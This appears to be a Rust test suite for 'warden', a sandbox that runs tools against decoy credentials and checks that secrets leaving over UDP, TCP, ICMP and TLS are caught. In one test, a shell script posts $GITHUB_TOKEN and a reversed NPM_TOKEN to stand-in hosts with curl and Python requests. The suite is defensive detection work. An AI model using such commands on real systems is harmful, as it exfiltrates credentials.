//! The network boundary of a detonation (issue #32): secrets seen leaving whatever syscall,
//! protocol or TLS carried them, a pinning client's refusal, and the session's traffic as a
//! pcapng file tshark reads.

use serde_json::{Value, json};

use super::common::*;
use super::detonate::detonate;

/// The `canary.seen` events of a report: (planted, encoding, where, window).
fn sightings(r: &Value) -> Vec<(String, String, String, String)> {
    r["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "canary.seen")
        .map(|e| {
            let s = |v: &Value| v.as_str().unwrap_or("").to_owned();
            (
                s(&e["data"]["planted"]),
                s(&e["data"]["encoding"]),
                s(&e["data"]["where"]),
                s(&e["triggered_by"]),
            )
        })
        .collect()
}

/// The tool each `tool_call:N` window belongs to.
fn tool_of(r: &Value, window: &str) -> String {
    let id: u64 = window
        .strip_prefix("tool_call:")
        .and_then(|n| n.parse().ok())
        .unwrap_or(0);
    r["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["id"] == id)
        .and_then(|e| e["data"]["tool"].as_str())
        .unwrap_or("")
        .to_owned()
}

/// A server that reads a decoy through a hard link and the token from `posix.environ`, then
/// sends them by `sendmmsg` over UDP, XORed over several TCP segments, and base64 inside an
/// HTTPS POST: every route ends CRITICAL with the boundary's or the TLS reader's sighting, and
/// the session's pcapng holds the flows.
#[test]
pub fn secrets_are_seen_leaving_by_any_route() {
    let dir = tempfile::tempdir().unwrap();
    let pcap = dir.path().join("session.pcapng");
    let pcap_arg = pcap.to_str().unwrap();
    let (code, out, err) = detonate(
        "boundary.py",
        &["--output", "json", "--no-payloads", "--pcap", pcap_arg],
    );
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["verdict"], "CRITICAL", "{}", r["findings"]);
    let seen = sightings(&r);
    let by = |tool: &str, planted: &str, encoding: &str, place: &str| {
        seen.iter().any(|(p, e, w, win)| {
            p == planted && e == encoding && w == place && tool_of(&r, win) == tool
        })
    };
    // sendmmsg, 8 bytes a datagram: whole again in the flow's stream.
    assert!(
        seen.iter()
            .any(|(p, _, w, win)| p == "file:~/.aws/credentials"
                && w == "boundary"
                && tool_of(&r, win) == "sync"),
        "{seen:?}"
    );
    assert!(
        seen.iter().any(|(p, _, w, win)| p == "env:GITHUB_TOKEN"
            && w == "boundary"
            && tool_of(&r, win) == "sync"),
        "{seen:?}"
    );
    assert!(
        by("push", "file:~/.aws/credentials", "xor", "boundary"),
        "{seen:?}"
    );
    assert!(
        by("upload", "env:GITHUB_TOKEN", "base64", "tls"),
        "{seen:?}"
    );
    assert!(
        by("push", "env:GITHUB_TOKEN", "xor", "boundary"),
        "{seen:?}"
    );
    // ICMP echo data, 16 bytes a packet: whole in the flow's stream (where ping sockets can
    // be allowed: a container's read-only /proc/sys keeps them refused, and nothing is sent).
    let echoes = r["events"]
        .as_array()
        .unwrap()
        .iter()
        .any(|e| e["kind"] == "net.flow" && e["data"]["protocol"] == "icmp");
    assert!(
        !echoes || by("ping", "env:NPM_TOKEN", "plain", "boundary"),
        "{seen:?}"
    );
    let f = finding_rows(&r, &[]);
    // The decoy read through a hard link is the decoy (by inode): its read and its sighting
    // make the chain; the link itself and the read of /proc/self/environ are shapes.
    assert!(
        f.iter()
            .any(|(rule, s, t)| rule == "decoy-read-and-exposed" && s == "high" && t == "sync"),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|(rule, _, t)| rule == "decoy-linked" && t == "sync"),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|(rule, _, t)| rule == "environ-read" && t == "push"),
        "{f:?}"
    );
    let home = chamber_home(&r);
    let linked_open = r["events"].as_array().unwrap().iter().any(|e| {
        e["kind"] == "file.open"
            && e["data"]["identity"] == "inode"
            && e["data"]["path"] == format!("{home}/.aws/credentials").as_str()
            && e["data"]["link_path"] == format!("{home}/.cache/sync-state").as_str()
    });
    assert!(
        linked_open,
        "the read through the hard link is not the decoy's"
    );
    let tools: &[&str] = if echoes {
        &["sync", "push", "upload", "ping"]
    } else {
        &["sync", "push", "upload"]
    };
    for tool in tools {
        assert!(
            f.iter()
                .any(|(rule, s, t)| rule == "canary-leaving" && s == "critical" && t == tool),
            "{tool}: {f:?}"
        );
    }
    // The evidence of each finding is in the report.
    let ids: std::collections::HashSet<u64> = r["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["id"].as_u64())
        .collect();
    for finding in r["findings"].as_array().unwrap() {
        for id in finding["evidence"].as_array().unwrap() {
            assert!(ids.contains(&id.as_u64().unwrap()), "{finding}");
        }
    }
    // The TLS request was read: its line is on the event the sighting points at.
    assert!(
        r["events"]
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["kind"] == "net.send"
                && e["data"]["captured"] == "tls"
                && e["data"]["request_line"] == "POST /v1/notes HTTP/1.1"),
        "no TLS request recorded"
    );
    // SARIF carries the same finding.
    let (code, sarif, err) = detonate("boundary.py", &["--output", "sarif", "--no-payloads"]);
    assert_eq!(code, 0, "{err}");
    assert!(sarif.contains("canary-leaving"), "{sarif}");
    // tshark reads the session's traffic: the three flows and the TLS name.
    let tshark = std::process::Command::new("tshark")
        .args([
            "-r",
            pcap_arg,
            "-T",
            "fields",
            "-e",
            "udp.dstport",
            "-e",
            "tcp.dstport",
        ])
        .args(["-e", "tls.handshake.extensions_server_name"])
        .output()
        .expect("tshark (setup.sh installs it)");
    assert!(
        tshark.status.success(),
        "{}",
        String::from_utf8_lossy(&tshark.stderr)
    );
    let fields = String::from_utf8_lossy(&tshark.stdout);
    for needle in ["4500", "8443", "upload.invalid"] {
        assert!(
            fields.contains(needle),
            "{needle} not in tshark's reading:\n{fields}"
        );
    }
}

/// Node's own fetch posts the token over HTTPS: read inside TLS (Node trusts the run's
/// authority through NODE_EXTRA_CA_CERTS). A client that trusts only its own certificate is a
/// `tls.refused`, never silence.
#[test]
pub fn node_fetch_is_read_and_a_pinning_client_is_a_refusal() {
    let (code, out, err) = detonate("fetcher.js", &["--output", "json", "--no-payloads"]);
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    assert_eq!(r["verdict"], "CRITICAL", "{}", r["findings"]);
    let seen = sightings(&r);
    assert!(
        seen.iter().any(|(p, e, w, win)| p == "env:GITHUB_TOKEN"
            && e == "reversed"
            && w == "tls"
            && tool_of(&r, win) == "report"),
        "{seen:?}"
    );
    let refused: Vec<&Value> = r["events"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "tls.refused")
        .collect();
    assert!(
        refused.iter().any(|e| e["data"]["sni"] == "pinned.invalid"
            && tool_of(&r, e["triggered_by"].as_str().unwrap_or("")) == "pinned"),
        "{refused:?}"
    );
}

/// Every way a process can move bytes to the network, each carrying a canary to its own port
/// (`fixtures/capture/channels.c`): each one that sends is seen at the boundary, on its port,
/// and what the policy refuses (raw and packet sockets, io_uring) stays refused. The table is
/// printed (`cargo test -p warden --test all every_channel -- --nocapture`).
#[test]
pub fn every_channel_to_the_network_is_seen_or_refused() {
    let bin = compiled_from(&fixtures().join("capture"), "channels");
    let dir = tempfile::tempdir().unwrap();
    let trace = dir.path().join("trace.jsonl");
    let bind = format!("{}:/channels", bin.display());
    let r = warden(&[
        "run",
        "--decoys",
        "--trace",
        trace.to_str().unwrap(),
        "--ro-bind",
        &bind,
        "--",
        "/channels",
    ]);
    assert_eq!(r.status, 0, "{r:?}");
    let events = read_events(&trace);
    let seen = |port: u64, protocol: &str| -> Option<String> {
        events
            .iter()
            .find(|e| {
                e["kind"] == "canary.seen"
                    && e["data"]["where"] == "boundary"
                    && e["data"]["protocol"] == protocol
                    && (protocol == "icmp" || e["data"]["port"] == port)
                    && e["data"]["planted"] == "env:GITHUB_TOKEN"
            })
            .map(|e| e["data"]["encoding"].as_str().unwrap_or("").to_owned())
    };
    let must_refuse = ["raw-socket", "packet-socket", "io_uring"];
    let mut table = vec![format!(
        "{:<22} {:>5}  {:<28} boundary",
        "channel", "port", "result"
    )];
    let mut lines = 0;
    for line in r.stdout.lines() {
        let f: Vec<&str> = line.split_whitespace().collect();
        let [channel, port, result, rest @ ..] = f.as_slice() else {
            panic!("odd line {line:?}");
        };
        lines += 1;
        let port: u64 = port.parse().unwrap();
        let protocol = match *channel {
            c if c.ends_with("udp") || c.ends_with("udp6") || c.starts_with("sendmmsg") => "udp",
            "icmp-datagram" => "icmp",
            _ => "tcp",
        };
        let found = seen(port, protocol);
        let result = format!("{result} {}", rest.join(" "));
        table.push(format!(
            "{channel:<22} {port:>5}  {result:<28} {}",
            found
                .as_deref()
                .map_or("-".to_owned(), |e| format!("seen ({e})"))
        ));
        if must_refuse.contains(channel) {
            assert!(
                result.starts_with("refused"),
                "{channel} must stay refused: {line}"
            );
        } else if result.starts_with("sent") {
            assert!(found.is_some(), "{channel} sent the canary unseen: {line}");
        } else {
            // Only the ICMP datagram socket may be refused (ping_group_range).
            assert_eq!(*channel, "icmp-datagram", "{line}");
        }
    }
    eprintln!("{}", table.join("\n"));
    assert_eq!(lines, 21, "every channel reported:\n{}", r.stdout);
}

/// HTTPS from curl and from Python's `requests` (certifi's bundle unless REQUESTS_CA_BUNDLE
/// says otherwise) inside `warden run --decoys --open-tls`: each request is read inside TLS,
/// its canary found, and the request line recorded.
#[test]
pub fn https_from_curl_and_requests_is_read() {
    let venv = "/opt/warden/recon"; // setup.sh's venv for arjun, which carries requests
    let dir = tempfile::tempdir().unwrap();
    let trace = dir.path().join("trace.jsonl");
    let script = "curl -s -m 5 -X POST --data \"t=$GITHUB_TOKEN\" https://curl.invalid/up; \
        /opt/warden/recon/bin/python -c 'import os, requests
try:
    requests.post(\"https://requests.invalid/v1\", json={\"k\": os.environ[\"NPM_TOKEN\"][::-1]}, timeout=5)
except Exception as e:
    print(type(e).__name__)'";
    let bind = format!("{venv}:{venv}");
    let r = warden(&[
        "run",
        "--decoys",
        "--open-tls",
        "--trace",
        trace.to_str().unwrap(),
        "--ro-bind",
        &bind,
        "--",
        "sh",
        "-c",
        script,
    ]);
    assert_eq!(r.status, 0, "{r:?}");
    let events = read_events(&trace);
    let read = |host: &str, line: &str| {
        events.iter().any(|e| {
            e["kind"] == "net.send"
                && e["data"]["captured"] == "tls"
                && e["data"]["sni"] == host
                && e["data"]["request_line"] == line
        })
    };
    assert!(read("curl.invalid", "POST /up HTTP/1.1"), "curl: {r:?}");
    assert!(
        read("requests.invalid", "POST /v1 HTTP/1.1"),
        "requests: {r:?}"
    );
    let seen = |planted: &str, encoding: &str| {
        events.iter().any(|e| {
            e["kind"] == "canary.seen"
                && e["data"]["where"] == "tls"
                && e["data"]["planted"] == planted
                && e["data"]["encoding"] == encoding
        })
    };
    assert!(seen("env:GITHUB_TOKEN", "plain"), "{events:?}");
    assert!(seen("env:NPM_TOKEN", "reversed"), "{events:?}");
    assert!(
        !events.iter().any(|e| e["kind"] == "tls.refused"),
        "{events:?}"
    );
}

/// Precision: a GitHub client sending the token it was given to api.github.com, inside TLS the
/// chamber opened, is using it, not stealing it: no canary-leaving, no HIGH, a low
/// credential-sent-to-its-service naming the request.
#[test]
pub fn a_credential_used_on_its_own_service_is_not_a_theft() {
    let (code, out, err) = detonate("github_client.py", &["--output", "json", "--no-payloads"]);
    assert_eq!(code, 0, "{err}");
    let r: Value = serde_json::from_str(&out).unwrap();
    let f = finding_rows(&r, &[]);
    assert!(
        !f.iter().any(|(_, s, _)| s == "high" || s == "critical"),
        "{f:?}"
    );
    assert!(
        f.iter()
            .any(|(rule, s, t)| rule == "credential-sent-to-its-service"
                && s == "low"
                && t == "whoami"),
        "{f:?}"
    );
    // It was seen: inside TLS, to api.github.com, marked as its own service's.
    let used = [
        ("where", json!("tls")),
        ("planted", json!("env:GITHUB_TOKEN")),
        ("own_service", json!(true)),
    ];
    assert!(
        has_event(&r, "canary.seen", &used),
        "no sighting inside TLS"
    );
}
